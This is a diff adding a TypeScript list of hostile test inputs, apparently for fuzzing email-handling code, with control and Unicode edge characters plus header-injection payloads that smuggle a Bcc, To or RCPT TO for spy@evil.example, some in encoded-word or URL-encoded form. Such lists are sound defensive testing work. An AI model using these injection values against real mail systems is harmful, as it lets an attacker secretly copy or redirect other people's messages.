@@ -1,0 +1,20 @@
+/** Pieces of text that can break headers, lines, encodings or lists of addresses. */
+export const HOSTILE_PIECES = [
+  ...['\r\n', '\n', '\r', '\0', '\t', '\v', '\f', '\u0085', '\u2028', '\u2029', '\u202e', '\u202a'],
+  ...['\u2066', '\u2069', '\u200f', '\u061c', '\u200d', '\ufeff', '\ud800', '\udfff'],
+  ...' ,;:"\'\\<>()[]@.',
+  ...['\r\n.\r\n', '\r\n\r\n', '\r\n '],
+  'Bcc: spy@evil.example',
+  '\r\nBcc: spy@evil.example\r\n',
+  '\nTo: spy@evil.example',
+  '\r\nRCPT TO:<spy@evil.example>\r\n',
+  'undisclosed: spy@evil.example;',
+  ', spy@evil.example',
+  '<spy@evil.example>',
+  '" <spy@evil.example>',
+  '=?utf-8?Q?=0D=0ABcc:_spy@evil.example?=',
+  '=?utf-8?B?DQpCY2M6IHNweUBldmlsLmV4YW1wbGU=?=',
+  '%0d%0aBcc:',
+  ...['----', 'zoe@exemple.ca', '@exemple.québec', 'Éloïse', '𝒵👩🏽‍🚒', 'ᐃᓄᒃᑎᑐᑦ', 'מרים'],
+  'x'.repeat(300),
+]
